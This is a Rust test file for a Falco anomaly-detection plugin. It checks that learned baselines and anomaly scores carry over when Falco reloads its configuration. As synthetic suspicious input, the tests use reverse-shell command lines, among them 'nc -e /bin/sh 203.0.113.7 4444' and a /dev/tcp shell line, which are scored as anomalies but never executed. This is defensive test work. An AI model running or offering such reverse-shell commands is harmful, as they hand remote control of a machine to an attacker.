//! A reload of Falco's configuration: a dry run, the end of one capture, the beginning of the next.

use std::ffi::CString;
use std::fs;
use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Child, Command, Stdio};

use falco_plugin_runner::PluginRunner;

use crate::alone;
use crate::support::{
    ANOMALY, Exec, HOST, Host, Process, clone, config, configured, connect, exec, run_before,
};

#[test]
fn a_reload_keeps_the_baseline_warm() {
    let _alone = alone();
    let directory = tempfile::tempdir().expect("a directory");
    let config = config(&in_the_way(directory.path()), 20);
    let mut host = Host::new(&config);
    host.learn();
    // Falco tries the new configuration before it ends the old capture.
    let mut dry_run = PluginRunner::new();
    dry_run.register_plugin(&HOST, c"").expect("registered");
    dry_run.register_plugin(&ANOMALY, &config).expect("registered");
    drop(dry_run);
    drop(host.stop());
    let mut reloaded = Host::new(&config);
    let known = exec(200, 1, "/usr/sbin/nginx -g daemon");
    assert_eq!(
        reloaded.score(&known).as_deref(),
        Some("0.0000"),
        "it was kept in memory, for there is nothing else"
    );
}

#[test]
fn a_reload_with_other_settings_takes_them_on_and_keeps_what_was_learned() {
    let _alone = alone();
    let directory = tempfile::tempdir().expect("a directory");
    let mut host = Host::new(&config(directory.path(), 20));
    host.learn();
    drop(host.stop());
    let mut reloaded = Host::new(&other_settings(directory.path()));
    let event = reloaded.event(exec(200, 1, "/usr/sbin/nginx -g daemon").event());
    assert_eq!(reloaded.field(&event, "anomaly.threshold").as_deref(), Some("0.4200"));
    assert_eq!(reloaded.field(&event, "anomaly.score").as_deref(), Some("0.0000"));
}

#[test]
fn a_reload_teaches_nothing_a_second_time() {
    let _alone = alone();
    let directory = tempfile::tempdir().expect("a directory");
    let nginx = Process {
        pid: 10,
        ppid: 1,
        name: "nginx".into(),
        arguments: vec!["/usr/sbin/nginx".into(), "-t".into()],
        cgroup: "/".into(),
    };
    run_before(vec![nginx.clone()]);
    drop(Host::new(&config(directory.path(), 1_000)).stop());
    run_before(vec![nginx]);
    let mut reloaded = Host::new(&config(directory.path(), 1_000));
    // init and nginx.
    assert_eq!(reloaded.metric("executions_seed"), 2);
    let event = reloaded.event(exec(100, 1, "/usr/sbin/nginx -t").event());
    assert_eq!(reloaded.field(&event, "anomaly.seen").as_deref(), Some("2"));
}

fn other_settings(path: &Path) -> CString {
    configured(path, r#""feed": "falco", "learn_executions": 20, "threshold": 0.42"#)
}

/// A real shell and what it has forked, which executes nothing; both end with the test.
struct Shell {
    shell: Child,
    forked: i64,
}

impl Shell {
    fn new() -> Self {
        let script = "exec 3<&0; (read x <&3) & echo $!; wait";
        let mut command = Command::new("/bin/sh");
        let mut shell = command
            .args(["-c", script])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("there is a shell");
        let mut line = String::new();
        BufReader::new(shell.stdout.as_mut().expect("piped")).read_line(&mut line).expect("a line");
        Self { shell, forked: line.trim().parse().expect("a process id") }
    }

    fn pid(&self) -> i64 {
        self.shell.id().into()
    }

    fn executed(&self) -> Exec {
        exec(self.pid(), 1, "/bin/sh -c 203.0.113.7 4444 /dev/tcp")
    }
}

impl Drop for Shell {
    fn drop(&mut self) {
        // Its end of the pipe goes too, and with that what it has forked.
        drop(self.shell.kill());
        drop(self.shell.wait());
    }
}

/// The thread table after a reload: real processes, as Falco finds them in /proc.
fn found(pid: i64, ppid: i64, path: &str) -> Process {
    Process { pid, ppid, name: "found".into(), arguments: vec![path.into()], cgroup: "/".into() }
}

fn score_at(host: &mut Host, tid: i64) -> Option<String> {
    let event = host.event(connect(tid));
    host.field(&event, "anomaly.score")
}

#[test]
fn what_runs_on_carries_its_score_through_a_reload_and_so_does_what_it_forked() {
    let _alone = alone();
    let (directory, mut host) = Host::learned();
    let shell = Shell::new();
    let own = host.score(&shell.executed());
    assert!(own.as_deref() > Some("0.5"), "{own:?}");
    host.event(clone(shell.forked, shell.forked, shell.pid()));
    drop(host.stop());
    let bystander = i64::from(std::process::id());
    run_before(vec![
        found(shell.pid(), 1, "/bin/sh"),
        found(shell.forked, shell.pid(), "/bin/sh"),
        found(bystander, shell.pid(), "/bin/sh"),
    ]);
    let mut reloaded = Host::new(&config(directory.path(), 20));
    assert_eq!(score_at(&mut reloaded, shell.pid()), own);
    assert_eq!(score_at(&mut reloaded, shell.forked), own);
    let event = reloaded.event(connect(shell.pid()));
    assert!(reloaded.field(&event, "anomaly.reason").is_some());
    assert_eq!(score_at(&mut reloaded, bystander), None, "it executed something, whoever its parent is");
    assert_eq!(score_at(&mut reloaded, 1), None);
    // And through another one, the parent gone by now: a daemon. With other settings there is another engine.
    drop(reloaded.stop());
    run_before(vec![found(shell.forked, 1, "/bin/sh")]);
    let mut reloaded = Host::new(&other_settings(directory.path()));
    reloaded.event(exec(300, 1, "/usr/sbin/nginx -g daemon").event());
    assert_eq!(score_at(&mut reloaded, shell.forked), own);
}

#[test]
fn another_process_or_program_of_the_same_id_carries_nothing_after_a_reload() {
    let _alone = alone();
    let (directory, mut host) = Host::learned();
    let (reused, other) = (Shell::new(), Shell::new());
    let an_hour = 3_600_000_000_000;
    let executed = reused.executed();
    host.event(Exec { time: executed.time - an_hour, ..executed }.event());
    host.event(exec(other.pid(), 1, "/usr/bin/nc -e /bin/sh 203.0.113.7 4444").event());
    drop(host.stop());
    run_before(vec![found(reused.pid(), 1, "/bin/sh"), found(other.pid(), 1, "/bin/sh")]);
    let mut reloaded = Host::new(&other_settings(directory.path()));
    // Before Falco's events have told of any execution a verdict is found by the process id alone.
    for _ in 0..2 {
        assert_eq!(score_at(&mut reloaded, reused.pid()), None, "it was started after that execution");
        assert_eq!(score_at(&mut reloaded, other.pid()), None, "it has executed something else meanwhile");
        reloaded.event(exec(300, 1, "/usr/sbin/nginx -g daemon").event());
    }
}

/// A directory that cannot be made: the baseline lives in memory alone.
fn in_the_way(directory: &Path) -> std::path::PathBuf {
    let file = directory.join("file");
    fs::write(&file, "in the way").expect("written");
    file.join("database")
}

#[test]
fn what_runs_already_carries_what_its_baseline_knows_of_it() {
    let _alone = alone();
    let (ours, other) =
        (tempfile::tempdir().expect("a directory"), tempfile::tempdir().expect("a directory"));
    let mut host = Host::new(&config(ours.path(), 20));
    host.learn();
    drop(host.stop());
    // Whoever opens another database lets go of this one, as an end of Falco does.
    drop(Host::new(&config(other.path(), 20)).stop());
    let process = |pid, line: &str| Process {
        pid,
        ppid: 1,
        name: line.split(' ').next().and_then(|path| path.rsplit('/').next()).unwrap_or_default().into(),
        arguments: line.split(' ').map(str::to_owned).collect(),
        cgroup: "/".into(),
    };
    run_before(vec![process(10, "/usr/sbin/nginx -g daemon"), process(11, "/usr/bin/nc -l 1")]);
    let mut host = Host::new(&config(ours.path(), 20));
    let mut score = |pid| {
        let event = host.event(connect(pid));
        host.field(&event, "anomaly.score")
    };
    assert_eq!(score(10).as_deref(), Some("0.0000"));
    assert_eq!(score(11), None, "nobody knows what it was like when it began");
}
